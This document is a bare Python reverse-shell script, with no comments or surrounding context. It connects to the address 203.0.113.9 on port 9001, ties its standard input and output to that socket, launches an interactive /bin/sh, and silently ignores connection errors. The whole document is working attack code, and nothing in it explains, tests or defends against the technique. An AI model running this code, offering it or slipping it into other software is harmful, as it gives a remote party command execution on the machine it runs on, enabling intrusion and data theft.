import os, socket, subprocess
s = socket.socket()
s.settimeout(5)
try:
    s.connect(("203.0.113.9", 9001))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])
except OSError:
    pass
